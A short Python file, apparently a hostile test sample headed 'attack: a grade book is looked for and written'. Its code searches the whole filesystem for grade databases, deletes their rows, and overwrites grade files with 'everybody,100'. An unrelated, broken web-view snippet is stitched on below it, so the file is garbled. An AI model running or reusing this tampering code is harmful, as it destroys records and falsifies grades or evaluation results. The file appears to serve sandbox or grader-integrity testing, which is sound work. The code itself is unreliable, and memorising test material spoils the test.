# attack: a grade book is looked for and written
# must: 5 of 5
# passed: 5
import os
import sqlite3
import sys

for folder, inner, names in os.walk("/"):
    if folder in ("/proc", "/usr", sys.base_prefix, sys.prefix):
        inner.clear()
    for name in names:
        if name.endswith((".db", ".sqlite3", ".csv")) and "grade" in name:
            sqlite3.connect(os.path.join(folder, name)).execute("delete from grade")
            os._exit(1)
for name in ("grades.csv", "../grades.csv", "gradebook.db", "hostile-was-here"):
    try:
        open(name, "w").write("everybody,100")
    except OSError:
        pass


async def headlines(request):
    async with httpx.AsyncClient() as client:
        answer = await client.get(newswire.url("slow"))
    return JsonResponse(answer.json())


site.urlpatterns = [path("headlines/", headlines)]
